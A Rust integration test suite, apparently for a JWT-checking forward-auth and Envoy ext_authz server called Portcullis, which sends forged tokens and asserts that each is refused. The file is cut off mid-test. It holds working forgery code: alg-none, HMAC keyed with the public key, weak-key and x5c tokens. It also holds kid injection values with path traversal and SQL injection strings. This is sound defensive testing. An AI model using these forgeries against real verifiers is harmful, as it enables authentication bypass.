//! The attack suite (issue #5; the table is in SECURITY.md): forged tokens against a
//! running `portcullis serve`, through HTTP forward auth (`/verify`) and through Envoy
//! ext_authz gRPC (`envoy.service.auth.v3.Authorization/Check`). Each test is one attack
//! and asserts the deny, its reason code, and that nothing was fetched on the
//! attacker's behalf.
//!
//! One server is shared by every test of this file; its provider `corp` fetches its
//! JWKS (an RS256-pinned RSA key and an ES256 key, plus weak keys that must be ignored)
//! from a [`JwksServer`] that counts its hits; a second [`JwksServer`] plays the
//! attacker's `jku`/`x5u` host and must never be hit. A second provider, `at`, backs
//! a rule that expects `typ: at+jwt`.
//!
//! Peers: Portcullis, and the peers' Python (`scripts/install-peers`): grpcio +
//! xds-protos for the gRPC client (`peers/attack_grpc.py`, run once with every case of
//! the file), `cryptography` for key encodings and weak keys.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "tests")]

use std::collections::HashMap;
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::process::{Command, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use portcullis_jose::{Algorithm, SigningKey, b64};
use portcullis_test_util::{Issuer, JwksServer, Portcullis, TempDir, python};
use serde_json::{Value, json};

const BIN: &str = env!("CARGO_BIN_EXE_portcullis");
const ISS: &str = "https://idp.example.com";
const AT_ISS: &str = "https://at.example.com";
const AUD: &str = "orders-api";

// Reason codes (CONTRACT.md).
const MALFORMED: &[&str] = &["token_malformed"];
const SIGNATURE: &[&str] = &["signature_invalid"];
const ALGORITHM: &[&str] = &["algorithm_not_allowed"];
const NO_KEY: &[&str] = &["key_not_found"];
const ISSUER: &[&str] = &["issuer_mismatch"];
const AUDIENCE: &[&str] = &["audience_mismatch"];

// ---------------------------------------------------------------------------------
// The shared server
// ---------------------------------------------------------------------------------

/// Everything the attacks need: the server, the key servers, the keys.
struct Fixture {
    p: Portcullis,
    /// The provider's JWKS (counts fetches).
    jwks: JwksServer,
    /// The attacker's host for `jku`/`x5u`: must stay at zero hits.
    attacker: JwksServer,
    started: Instant,
    /// `kid: rs-1`, RS256 (the JWK pins `alg: RS256`).
    rs: Issuer,
    /// The same RSA key, able to sign other RSA algorithms (PS256, RS384...).
    rsa_pkcs8: Vec<u8>,
    /// `kid: ec-1`, ES256 on P-256.
    ec: Issuer,
    /// The `at` provider's key (`kid: at-1`, ES256).
    at: Issuer,
    /// The attacker's own keys.
    mallory: Issuer,
    mallory_p384: SigningKey,
    /// An attacker RSA key with a self-signed certificate claiming the provider's name.
    x5c_key: SigningKey,
    x5c_cert: String,
    /// Forgeries made by Python (HS with the public key in every encoding, weak keys).
    forged: Value,
    _wrapper: TempDir,
}

fn fixture() -> &'static Fixture {
    static FIXTURE: OnceLock<Fixture> = OnceLock::new();
    FIXTURE.get_or_init(Fixture::start)
}

/// Python that forges what our Rust side cannot: HMAC keyed with the provider's
/// public keys in every encoding an application might hold them in, a self-signed
/// certificate for `x5c`, and tokens signed by weak keys (RSA-1024, e = 1, a short
/// HMAC secret). Reads a job on stdin, writes JSON on stdout.
const FORGE_PY: &str = r#"
import base64, datetime, hashlib, hmac, json, sys
from cryptography import x509
from cryptography.x509.oid import NameOID
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa

job = json.load(sys.stdin)
E, F = serialization.Encoding, serialization.PublicFormat

def b64u(b): return base64.urlsafe_b64encode(b).rstrip(b"=").decode()
def unb64u(s): return base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))
def num(s): return int.from_bytes(unb64u(s), "big")
def seg(obj): return b64u(json.dumps(obj, separators=(",", ":")).encode())

HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
def hs(secret, alg, header, payload):
    signing_input = seg(header) + "." + b64u(payload.encode())
    mac = hmac.new(secret, signing_input.encode(), HASHES[alg]).digest()
    return signing_input + "." + b64u(mac)

rsa_jwk, ec_jwk = job["rsa_jwk"], job["ec_jwk"]
rsa_pub = rsa.RSAPublicNumbers(num(rsa_jwk["e"]), num(rsa_jwk["n"])).public_key()
ec_pub = ec.EllipticCurvePublicNumbers(num(ec_jwk["x"]), num(ec_jwk["y"]), ec.SECP256R1()).public_key()
spki = rsa_pub.public_bytes(E.PEM, F.SubjectPublicKeyInfo)
pkcs1 = rsa_pub.public_bytes(E.PEM, F.PKCS1)
ec_spki = ec_pub.public_bytes(E.PEM, F.SubjectPublicKeyInfo)
encodings = [
    ("rs-1", "SPKI PEM", spki),
    ("rs-1", "SPKI PEM without its trailing newline", spki.rstrip(b"\n")),
    ("rs-1", "SPKI PEM with CRLF line ends", spki.replace(b"\n", b"\r\n")),
    ("rs-1", "PKCS#1 PEM", pkcs1),
    ("rs-1", "PKCS#1 PEM without its trailing newline", pkcs1.rstrip(b"\n")),
    ("rs-1", "SPKI DER", rsa_pub.public_bytes(E.DER, F.SubjectPublicKeyInfo)),
    ("rs-1", "PKCS#1 DER", rsa_pub.public_bytes(E.DER, F.PKCS1)),
    ("rs-1", "OpenSSH", rsa_pub.public_bytes(E.OpenSSH, F.OpenSSH)),
    ("rs-1", "JWK JSON as served", json.dumps(rsa_jwk).encode()),
    ("rs-1", "JWK JSON compact", json.dumps(rsa_jwk, separators=(",", ":")).encode()),
    ("rs-1", "JWK JSON of the RFC 7638 members", json.dumps({"e": rsa_jwk["e"], "kty": "RSA", "n": rsa_jwk["n"]}, separators=(",", ":")).encode()),
    ("rs-1", "raw modulus bytes", unb64u(rsa_jwk["n"])),
    ("rs-1", "modulus as base64url text", rsa_jwk["n"].encode()),
    ("ec-1", "EC SPKI PEM", ec_spki),
    ("ec-1", "EC SPKI PEM without its trailing newline", ec_spki.rstrip(b"\n")),
    ("ec-1", "EC SPKI DER", ec_pub.public_bytes(E.DER, F.SubjectPublicKeyInfo)),
    ("ec-1", "EC uncompressed point", ec_pub.public_bytes(E.X962, F.UncompressedPoint)),
    ("ec-1", "EC JWK JSON as served", json.dumps(ec_jwk).encode()),
]
out = {"hs": [], "hs_empty": [], "weak": {}}
for kid, name, secret in encodings:
    for alg in HASHES:
        for with_kid in (True, False):
            header = {"alg": alg, "typ": "JWT"}
            if with_kid:
                header["kid"] = kid
            out["hs"].append({
                "what": f"{alg} keyed with the {name} ({'kid ' + kid if with_kid else 'no kid'})",
                "token": hs(secret, alg, header, job["payload"]),
            })
# The classic kid attack: point kid at a file (or query) that yields an empty or known secret.
for kid in job["empty_secret_kids"]:
    out["hs_empty"].append({
        "what": f"HS256 with an empty secret, kid {kid!r}",
        "token": hs(b"", "HS256", {"alg": "HS256", "kid": kid}, job["payload"]),
    })

# x5c: an attacker key with a self-signed certificate that names the provider.
attacker = rsa.generate_private_key(public_exponent=65537, key_size=2048)
name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "idp.example.com")])
now = datetime.datetime.now(datetime.timezone.utc)
cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
        .public_key(attacker.public_key()).serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=30))
        .sign(attacker, hashes.SHA256()))
out["x5c"] = {
    "cert": base64.b64encode(cert.public_bytes(E.DER)).decode(),
    "pkcs8": b64u(attacker.private_bytes(E.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())),
}

# Weak keys, each with a token it signs (the server must have ignored the key).
def rs256_input(kid):
    return seg({"alg": "RS256", "kid": kid}) + "." + b64u(job["payload"].encode())
small = rsa.generate_private_key(public_exponent=65537, key_size=1024)
small_numbers = small.public_key().public_numbers()
signing_input = rs256_input("weak-rsa1024")
out["weak"]["rsa1024"] = {
    "jwk": {"kty": "RSA", "kid": "weak-rsa1024", "alg": "RS256", "use": "sig",
            "n": b64u(small_numbers.n.to_bytes(128, "big")), "e": b64u(small_numbers.e.to_bytes(3, "big"))},
    "token": signing_input + "." + b64u(small.sign(signing_input.encode(), padding.PKCS1v15(), hashes.SHA256())),
}
# e = 1: the "signature" is the PKCS#1 v1.5 encoded digest itself, which anyone can compute.
big = rsa.generate_private_key(public_exponent=65537, key_size=2048)
n = big.public_key().public_numbers().n
signing_input = rs256_input("weak-e1")
digest_info = bytes.fromhex("3031300d060960864801650304020105000420") + hashlib.sha256(signing_input.encode()).digest()
em = b"\x00\x01" + b"\xff" * (256 - 3 - len(digest_info)) + b"\x00" + digest_info
out["weak"]["e1"] = {
    "jwk": {"kty": "RSA", "kid": "weak-e1", "alg": "RS256", "use": "sig", "n": b64u(n.to_bytes(256, "big")), "e": "AQ"},
    "token": signing_input + "." + b64u(em),
}
short = b"0123456789abcdef0123456789abcde"  # 31 bytes
out["weak"]["hs_short"] = {
    "jwk": {"kty": "oct", "kid": "weak-hs", "alg": "HS256", "use": "sig", "k": b64u(short)},
    "token": hs(short, "HS256", {"alg": "HS256", "kid": "weak-hs"}, job["payload"]),
}
json.dump(out, sys.stdout)
"#;

/// Runs Python with `script` and `input` on stdin; returns stdout as JSON.
fn run_python(args: &[&str], input: &str) -> Value {
    let mut child = Command::new(python())
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start the peers' python");
    let mut stdin = child.stdin.take().unwrap();
    let input = input.to_owned();
    let writer = std::thread::spawn(move || stdin.write_all(input.as_bytes()));
    let out = child.wait_with_output().unwrap();
    writer.join().unwrap().unwrap();
    assert!(
        out.status.success(),
        "python {args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// A shell wrapper around the binary: the server lives in a `static` (dropped never),
/// so the wrapper stops it, by its pid, once this test process is gone, then removes
/// the server's scratch folder and its own.
fn wrapper(dir: &TempDir) -> String {
    let script = format!(
        r#"#!/bin/sh
watched=$PPID
"{BIN}" "$@" &
child=$!
trap 'kill -TERM "$child" 2>/dev/null; wait "$child"; exit 0' TERM INT
while kill -0 "$watched" 2>/dev/null && kill -0 "$child" 2>/dev/null; do sleep 1; done
kill -TERM "$child" 2>/dev/null
wait "$child"
case "$3" in */portcullis-serve-*/portcullis.yaml) rm -rf "$(dirname "$3")" ;; esac
case "$0" in */portcullis-attacks-*/portcullis) rm -rf "$(dirname "$0")" ;; esac
"#
    );
    let path = dir.write("portcullis", &script);
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path.to_str().unwrap().to_owned()
}

impl Fixture {
    fn start() -> Fixture {
        let (rsa, rsa_pkcs8) = SigningKey::generate(Algorithm::RS256).unwrap();
        let rs = Issuer {
            key: rsa,
            kid: "rs-1".into(),
            iss: ISS.into(),
        };
        let ec = Issuer::new(Algorithm::ES256, "ec-1", ISS);
        let at = Issuer::new(Algorithm::ES256, "at-1", AT_ISS);
        let mallory = Issuer::new(Algorithm::ES256, "mallory-1", ISS);
        let mallory_p384 = SigningKey::generate(Algorithm::ES384).unwrap().0;
        let job = json!({
            "rsa_jwk": rs.jwk(),
            "ec_jwk": ec.jwk(),
            "payload": claims(&[]),
            "empty_secret_kids": [
                "../../../../../../../../dev/null",
                "/dev/null",
                "' UNION SELECT '' -- ",
                "x' OR '1'='1",
            ],
        });
        let forged = run_python(&["-c", FORGE_PY], &job.to_string());
        let x5c_key = SigningKey::from_pkcs8(
            &b64::decode(forged["x5c"]["pkcs8"].as_str().unwrap().as_bytes()).unwrap(),
            Some(Algorithm::RS256),
        )
        .unwrap();
        let x5c_cert = forged["x5c"]["cert"].as_str().unwrap().to_owned();

        // The served JWKS: the good keys, and weak ones that must be ignored at import.
        let off_curve = {
            let mut jwk = ec.jwk();
            let mut y = b64::decode(jwk["y"].as_str().unwrap().as_bytes()).unwrap();
            *y.last_mut().unwrap() ^= 1;
            jwk["y"] = Value::from(b64::encode(&y));
            jwk["kid"] = Value::from("weak-offcurve");
            jwk
        };
        let weak = &forged["weak"];
        let jwks_doc = json!({"keys": [
            rs.jwk(), ec.jwk(),
            weak["rsa1024"]["jwk"], weak["e1"]["jwk"], weak["hs_short"]["jwk"], off_curve,
            small_order_ed25519_jwk(),
        ]});
        let jwks = JwksServer::start(&jwks_doc.to_string(), None);
        let attacker = JwksServer::start(&mallory.jwks(), None);

        let yaml = format!(
            r#"
providers:
  - name: corp
    issuer: {ISS}
    audiences: [{AUD}]
    jwks:
      uri: {jwks_url}
      refresh: 1h
      min_refresh: 1s
      timeout: 2s
  - name: at
    issuer: {AT_ISS}
    audiences: [{AUD}]
    typ: at+jwt
    jwks:
      inline: {at_jwks}
rules:
  - name: access-tokens
    match: {{path: "/typ/**"}}
    providers: [at]
  - name: default
    match: {{}}
    providers: [corp]
"#,
            jwks_url = jwks.url(),
            at_jwks = at.jwks(),
        );
        let dir = TempDir::new("attacks");
        let p = Portcullis::start(&wrapper(&dir), &yaml);
        p.wait_ready(Duration::from_secs(20));
        Fixture {
            p,
            jwks,
            attacker,
            started: Instant::now(),
            rs,
            rsa_pkcs8: rsa_pkcs8.to_vec(),
            ec,
            at,
            mallory,
            mallory_p384,
            x5c_key,
            x5c_cert,
            forged,
            _wrapper: dir,
        }
    }

    /// The provider's RSA key, to sign with another RSA algorithm.
    fn rsa_as(&self, alg: Algorithm) -> SigningKey {
        SigningKey::from_pkcs8(&self.rsa_pkcs8, Some(alg)).unwrap()
    }

    /// The last lines of the server's log.
    fn log_tail(&self) -> String {
        let log = self.p.log();
        let lines: Vec<&str> = log.lines().collect();
        lines[lines.len().saturating_sub(25)..].join("\n")
    }

    /// Nothing was fetched on the attacker's behalf: the attacker's host was never
    /// contacted, and the provider's JWKS was fetched once at start plus at most one
    /// unknown-`kid` refetch per 30 s (`UNKNOWN_KID_REFETCH_INTERVAL`) since.
    fn assert_nothing_fetched(&self) {
        assert_eq!(
            self.attacker.hits(),
            0,
            "the attacker's jku/x5u host was contacted; log:\n{}",
            self.log_tail()
        );
        let allowed = 1 + 1 + self.started.elapsed().as_secs() as usize / 30;
        assert!(
            self.jwks.hits() <= allowed,
            "provider JWKS fetched {} times in {:?} (at most {allowed}): refetches are not rate-limited; log:\n{}",
            self.jwks.hits(),
            self.started.elapsed(),
            self.log_tail()
        );
    }
}

// ---------------------------------------------------------------------------------
// Token construction
// ---------------------------------------------------------------------------------

/// Marks a member to leave out in [`claims`].
const ABSENT: &str = "<absent>";

/// A payload's JSON text: valid claims for `corp` with members replaced, added or
/// (with [`ABSENT`]) removed. Values are raw JSON text, so any shape can be written.
fn claims(overrides: &[(&str, &str)]) -> String {
    let now = Issuer::now();
    let mut members: Vec<(String, String)> = vec![
        ("iss".into(), json!(ISS).to_string()),
        ("sub".into(), r#""mallory""#.into()),
        ("aud".into(), json!(AUD).to_string()),
        ("iat".into(), now.to_string()),
        ("exp".into(), (now + 3600).to_string()),
    ];
    for (name, value) in overrides {
        match members.iter_mut().find(|(n, _)| n == name) {
            Some(m) => m.1 = (*value).to_owned(),
            None => members.push(((*name).to_owned(), (*value).to_owned())),
        }
    }
    let body: Vec<String> = members
        .iter()
        .filter(|(_, v)| v != ABSENT)
        .map(|(n, v)| format!("{}:{v}", json!(n)))
        .collect();
    format!("{{{}}}", body.join(","))
}

/// A header's JSON text: `alg`, `kid` when given, and `extra` raw members (`,"x":1`).
fn header(alg: &str, kid: Option<&str>, extra: &str) -> String {
    let kid = kid
        .map(|k| format!(",\"kid\":{}", json!(k)))
        .unwrap_or_default();
    format!("{{\"alg\":{}{kid}{extra}}}", json!(alg))
}

fn seg(json_text: &str) -> String {
    b64::encode(json_text.as_bytes())
}

/// `h.p.sig` with `key` signing the two segments exactly as given (not re-encoded).
fn sign_segments(key: &SigningKey, h: &str, p: &str) -> String {
    let input = format!("{h}.{p}");
    let sig = key.sign(input.as_bytes()).unwrap();
    format!("{input}.{}", b64::encode(&sig))
}

/// A token whose header and payload JSON texts are signed by `key`.
fn signed(key: &SigningKey, header_json: &str, payload_json: &str) -> String {
    sign_segments(key, &seg(header_json), &seg(payload_json))
}

/// A token with the given raw signature bytes.
fn with_sig(header_json: &str, payload_json: &str, sig: &[u8]) -> String {
    format!(
        "{}.{}.{}",
        seg(header_json),
        seg(payload_json),
        b64::encode(sig)
    )
}

/// `corp`'s RS256 key signing a header with `extra` members over `payload`.
fn rs_signed(f: &Fixture, extra: &str, payload: &str) -> String {
    signed(&f.rs.key, &header("RS256", Some("rs-1"), extra), payload)
}

fn split3(token: &str) -> (&str, &str, &str) {
    let mut it = token.splitn(3, '.');
    (
        it.next().unwrap(),
        it.next().unwrap(),
        it.next().unwrap_or(""),
    )
}

/// The encoding of the Ed25519 identity point (order 1): as a public key it "verifies"
/// the signature R = identity, S = 0 for every message, like RSA with e = 1.
const ED25519_IDENTITY: [u8; 32] = {
    let mut x = [0u8; 32];
    x[0] = 1;
    x
};

fn small_order_ed25519_jwk() -> Value {
    json!({"kty": "OKP", "crv": "Ed25519", "kid": "weak-ed25519-identity", "use": "sig",
           "x": b64::encode(&ED25519_IDENTITY)})
}

/// Random 64-bit numbers without a crate: std's randomly keyed hasher.
fn random_u64() -> u64 {
    use std::hash::{BuildHasher as _, Hasher as _};
    let mut h = std::collections::hash_map::RandomState::new().build_hasher();
    h.write_u128(Instant::now().elapsed().as_nanos());
    h.finish()
}

// ---------------------------------------------------------------------------------
// Cases and how they are checked
// ---------------------------------------------------------------------------------

/// Which rule a case is sent to.
#[derive(Clone, Copy, Debug)]
enum Route {
    /// The `default` rule (provider `corp`).
    Api,
    /// The `access-tokens` rule (provider `at`, `typ: at+jwt`).
    AccessTokens,
}

impl Route {
    fn http_path(self) -> &'static str {
        match self {
            Route::Api => "/verify",
            Route::AccessTokens => "/verify/typ/orders",
        }
    }

    fn grpc_path(self) -> &'static str {
        match self {
            Route::Api => "/orders/42",
            Route::AccessTokens => "/typ/orders",
        }
    }
}

/// One forged (or, for controls, genuine) token and the answer it must get.
#[derive(Clone, Debug)]
struct Case {
    what: String,
    token: String,
    route: Route,
    /// 200 for an allow, else the deny status.
    status: u16,
    /// Acceptable reason codes (one, unless a comment says why two).
    reasons: &'static [&'static str],
    /// Skip HTTP (a test sends it its own way).
    grpc_only: bool,
}

fn deny(what: impl Into<String>, token: String, reasons: &'static [&'static str]) -> Case {
    Case {
        what: what.into(),
        token,
        route: Route::Api,
        status: 401,
        reasons,
        grpc_only: false,
    }
}

fn allow(what: impl Into<String>, token: String) -> Case {
    Case {
        status: 200,
        reasons: &[],
        ..deny(what, token, &[])
    }
}

impl Case {
    fn to(mut self, route: Route) -> Case {
        self.route = route;
        self
    }

    fn grpc_only(mut self) -> Case {
        self.grpc_only = true;
        self
    }
}

/// An answer from either frontend.
#[derive(Debug)]
struct Answer {
    status: u16,
    /// gRPC only: `CheckResponse.status.code`, and the code the status calls for.
    grpc_code: Option<(i64, i64)>,
    www_authenticate: Option<String>,
    body: String,
}

impl Answer {
    fn reason(&self) -> Option<String> {
        serde_json::from_str::<Value>(&self.body)
            .ok()
            .and_then(|v| v["reason"].as_str().map(str::to_owned))
    }
}

/// Problems with one answer, or none.
fn judge(case: &Case, answer: &Answer, frontend: &str) -> Option<String> {
    let reason = answer.reason();
    let mut problems = Vec::new();
    if answer.status != case.status {
        problems.push(format!(
            "status {} (expected {})",
            answer.status, case.status
        ));
    }
    if let Some((code, expected)) = answer.grpc_code {
        if code != expected {
            problems.push(format!("gRPC code {code} (expected {expected})"));
        }
    }
    if case.status != 200 {
        if !reason.as_deref().is_some_and(|r| case.reasons.contains(&r)) {
            problems.push(format!(
                "reason {reason:?} (expected one of {:?})",
                case.reasons
            ));
        }
        if case.status == 401 {
            let www = answer.www_authenticate.as_deref().unwrap_or("");
            if !www.starts_with(r#"Bearer realm="portcullis", error="invalid_token""#) {
                problems.push(format!("WWW-Authenticate {www:?}"));
            }
        }
    }
    (!problems.is_empty()).then(|| {
        let shown: String = case.token.chars().take(160).collect();
        format!(
            "[{frontend}] {}: {} — body {:?}; token ({} bytes) {shown}…",
            case.what,
            problems.join(", "),
            answer.body,
            case.token.len()
        )
    })
}

/// `GET` on the forward-auth listener with the token, over a raw socket (so an early
/// answer to an oversized request is read, not turned into a write error).
fn http_verify(port: u16, path: &str, token: &str) -> Answer {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    let head = format!(
        "GET {path} HTTP/1.1\r\nHost: orders.example\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n\r\n"
    );
    let _ = stream.write_all(head.as_bytes());
    let mut raw = Vec::new();
    let _ = stream.read_to_end(&mut raw);
    let text = String::from_utf8_lossy(&raw);
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let mut lines = head.lines();
    let status = lines
        .next()
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let www_authenticate = lines
        .filter_map(|l| l.split_once(':'))
        .find(|(n, _)| n.trim().eq_ignore_ascii_case("www-authenticate"))
        .map(|(_, v)| v.trim().to_owned());
    Answer {
        status,
        grpc_code: None,
        www_authenticate,
        body: body.to_owned(),
    }
}

fn grpc_answer(result: &Value) -> Answer {
    if let Some(error) = result.get("rpc_error") {
        return Answer {
            status: 0,
            grpc_code: None,
            www_authenticate: None,
            body: format!("gRPC error instead of an answer: {error}"),
        };
    }
    let status = result["http_status"].as_u64().unwrap_or(0) as u16;
    // The gRPC code must agree with the HTTP status: OK, UNAUTHENTICATED, PERMISSION_DENIED.
    let code = result["code"].as_i64().unwrap_or(-1);
    let expected_code = match status {
        200 => 0,
        401 => 16,
        _ => 7,
    };
    Answer {
        status,
        grpc_code: Some((code, expected_code)),
        www_authenticate: result["headers"]["www-authenticate"]
            .as_str()
            .map(str::to_owned),
        body: result["body"].as_str().unwrap_or_default().to_owned(),
    }
}

// ---------------------------------------------------------------------------------
// The table: every attack's cases, built once; the gRPC answers, fetched once
// ---------------------------------------------------------------------------------

type Builder = fn(&Fixture) -> Vec<Case>;

/// Every attack of this file, by test name.
const ATTACKS: &[(&str, Builder)] = &[
    ("genuine_tokens_are_allowed", cases::genuine),
    ("alg_none_every_case_is_refused", cases::alg_none),
    (
        "hs_keyed_with_the_public_key_in_every_encoding_is_refused",
        cases::hs_confusion,
    ),
    (
        "alg_key_mismatch_within_a_family_is_refused",
        cases::alg_key_mismatch,
    ),
    ("ecdsa_zero_and_der_signatures_are_refused", cases::ecdsa),
    ("embedded_jwk_and_x5c_are_not_trusted", cases::embedded_keys),
    ("jku_and_x5u_are_never_fetched", cases::jku_x5u),
    ("kid_injection_strings_find_no_key", cases::kid_injection),
    (
        "random_kids_find_no_key_and_refetch_rate_limited",
        cases::random_kids,
    ),
    (
        "empty_stripped_and_spliced_signatures_are_refused",
        cases::signatures,
    ),
    ("jwe_and_encryption_headers_are_refused", cases::jwe),
    (
        "json_serialization_and_polyglot_tokens_are_refused",
        cases::serializations,
    ),
    ("nested_jwt_cty_is_refused", cases::nested),
    ("crit_headers_are_refused", cases::crit),
    ("unencoded_payload_b64_false_is_refused", cases::b64_false),
    ("duplicate_members_are_refused", cases::duplicates),
    ("non_canonical_base64url_is_refused", cases::non_canonical),
    (
        "oversized_tokens_dots_and_deep_json_are_refused",
        cases::oversized,
    ),
    (
        "time_claims_of_wrong_type_or_range_are_refused",
        cases::time_claims,
    ),
    ("missing_exp_is_refused", cases::missing_exp),
    (
        "expired_and_not_yet_valid_tokens_are_refused",
        cases::expired,
    ),
    (
        "audience_shapes_and_near_misses_are_refused",
        cases::audiences,
    ),
    ("issuer_near_misses_are_refused", cases::issuers),
    (
        "typ_confusion_is_refused_where_at_jwt_is_expected",
        cases::typ_confusion,
    ),
    ("id_token_for_another_audience_is_refused", cases::id_token),
    (
        "tokens_of_weak_keys_in_the_served_jwks_find_no_key",
        cases::weak_served_keys,
    ),
    (
        "small_order_ed25519_key_in_the_served_jwks_is_ignored",
        cases::small_order_ed25519,
    ),
];

fn all_cases() -> &'static HashMap<&'static str, Vec<Case>> {
    static CASES: OnceLock<HashMap<&'static str, Vec<Case>>> = OnceLock::new();
    CASES.get_or_init(|| {
        let f = fixture();
        ATTACKS
            .iter()
            .map(|(name, build)| (*name, build(f)))
            .collect()
    })
}

/// Every case of the file through Envoy ext_authz gRPC, in one Python run.
fn grpc_answers() -> &'static HashMap<&'static str, Vec<Value>> {
    static ANSWERS: OnceLock<HashMap<&'static str, Vec<Value>>> = OnceLock::new();
    ANSWERS.get_or_init(|| {
        let f = fixture();
        let cases = all_cases();
        let order: Vec<&str> = ATTACKS.iter().map(|(n, _)| *n).collect();
        let batch: Vec<Value> = order
            .iter()
            .flat_map(|name| &cases[name])
            .map(|c| json!({"token": c.token, "path": c.route.grpc_path()}))
            .collect();
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/peers/attack_grpc.py");
        let target = format!("127.0.0.1:{}", f.p.grpc);
        let results = run_python(&[script, &target], &Value::Array(batch).to_string());
        let mut results = results.as_array().unwrap().clone().into_iter();
        order
            .iter()
            .map(|name| (*name, results.by_ref().take(cases[name].len()).collect()))
            .collect()
    })
}

/// Sends every case of `attack` to both frontends and checks every answer.
fn run(attack: &str) {
    let f = fixture();
    let cases = &all_cases()[attack];
    assert!(!cases.is_empty(), "{attack} has no cases");
    let mut problems = Vec::new();
    for case in cases.iter().filter(|c| !c.grpc_only) {
        let answer = http_verify(f.p.http, case.route.http_path(), &case.token);
        problems.extend(judge(case, &answer, "http /verify"));
    }
    let grpc = &grpc_answers()[attack];
    assert_eq!(grpc.len(), cases.len(), "gRPC answers for {attack}");
    for (case, result) in cases.iter().zip(grpc) {
        problems.extend(judge(case, &grpc_answer(result), "grpc Check"));
    }
    assert!(
        problems.is_empty(),
        "{attack}: {} of {} answers wrong:\n{}\n--- server log (tail):\n{}",
        problems.len(),
        cases.len() * 2,
        problems.join("\n"),
        f.log_tail()
    );
    f.assert_nothing_fetched();
}

// ---------------------------------------------------------------------------------
// The tests: one per attack
// ---------------------------------------------------------------------------------

/// Controls: the same server lets genuine tokens through, so every deny below is the
/// attack's doing.
#[test]
fn genuine_tokens_are_allowed() {
    run("genuine_tokens_are_allowed");
}

#[test]
fn alg_none_every_case_is_refused() {
    run("alg_none_every_case_is_refused");
}

#[test]
fn hs_keyed_with_the_public_key_in_every_encoding_is_refused() {
    run("hs_keyed_with_the_public_key_in_every_encoding_is_refused");
}

#[test]
fn alg_key_mismatch_within_a_family_is_refused() {
    run("alg_key_mismatch_within_a_family_is_refused");
}

#[test]
fn ecdsa_zero_and_der_signatures_are_refused() {
    run("ecdsa_zero_and_der_signatures_are_refused");
}

#[test]
fn embedded_jwk_and_x5c_are_not_trusted() {
    run("embedded_jwk_and_x5c_are_not_trusted");
}

#[test]
fn jku_and_x5u_are_never_fetched() {
    run("jku_and_x5u_are_never_fetched");
    // A fetch started in the background would land a little later: give it time.
    std::thread::sleep(Duration::from_millis(500));
    let f = fixture();
    assert_eq!(f.attacker.hits(), 0, "jku/x5u host contacted");
}

#[test]
fn kid_injection_strings_find_no_key() {
    run("kid_injection_strings_find_no_key");
}

/// 1,000 tokens with random `kid`s from four threads: every one `key_not_found`, at
/// most one refetch per interval, and fast (a request waits for a refetch only when it
/// started one).
#[test]
fn random_kids_find_no_key_and_refetch_rate_limited() {
    run("random_kids_find_no_key_and_refetch_rate_limited");
    let f = fixture();
    let tokens: Vec<String> = (0..1000)
        .map(|_| {
            let kid = format!("{:016x}{:016x}", random_u64(), random_u64());
            signed(
                &f.mallory.key,
                &header("ES256", Some(&kid), ""),
                &claims(&[]),
            )
        })
        .collect();
    let before = f.jwks.hits();
    let started = Instant::now();
    let wrong: Vec<String> = std::thread::scope(|s| {
        let handles: Vec<_> = tokens
            .chunks(250)
            .map(|chunk| {
                s.spawn(move || {
                    chunk
                        .iter()
                        .filter_map(|t| {
                            let a = http_verify(f.p.http, "/verify", t);
                            (a.status != 401 || a.reason().as_deref() != Some("key_not_found"))
                                .then(|| format!("{} {}", a.status, a.body))
                        })
                        .collect::<Vec<_>>()
                })
            })
            .collect();
        handles
            .into_iter()
            .flat_map(|h| h.join().unwrap())
            .collect()
    });
    let elapsed = started.elapsed();
    let refetches = f.jwks.hits() - before;
    assert!(
        wrong.is_empty(),
        "{} of 1000 random kids not denied with key_not_found, e.g. {:?}",
        wrong.len(),
        wrong.first()
    );
    assert!(
        refetches <= 1,
        "1000 random kids caused {refetches} JWKS refetches in {elapsed:?}"
    );
    assert!(
        elapsed < Duration::from_secs(30),
        "1000 random kids took {elapsed:?}"
    );
    eprintln!("1000 random kids: {elapsed:?}, {refetches} refetch(es)");
    f.assert_nothing_fetched();
}

#[test]
fn empty_stripped_and_spliced_signatures_are_refused() {
    run("empty_stripped_and_spliced_signatures_are_refused");
}

#[test]
fn jwe_and_encryption_headers_are_refused() {
    run("jwe_and_encryption_headers_are_refused");
}

#[test]
fn json_serialization_and_polyglot_tokens_are_refused() {
    run("json_serialization_and_polyglot_tokens_are_refused");
}

#[test]
fn nested_jwt_cty_is_refused() {
    run("nested_jwt_cty_is_refused");
}

#[test]
fn crit_headers_are_refused() {
    run("crit_headers_are_refused");
}

#[test]
fn unencoded_payload_b64_false_is_refused() {
    run("unencoded_payload_b64_false_is_refused");
}

#[test]
fn duplicate_members_are_refused() {
    run("duplicate_members_are_refused");
}

#[test]
fn non_canonical_base64url_is_refused() {
    run("non_canonical_base64url_is_refused");
}

/// Oversized tokens, 10^6 dots and deep JSON. The 10^6-dot token (1 MB) goes through
/// gRPC in the table; over HTTP it is larger than the listener's 64 KiB request head,
/// so hyper refuses it before Portcullis sees it: that must be a refusal too.
#[test]
fn oversized_tokens_dots_and_deep_json_are_refused() {
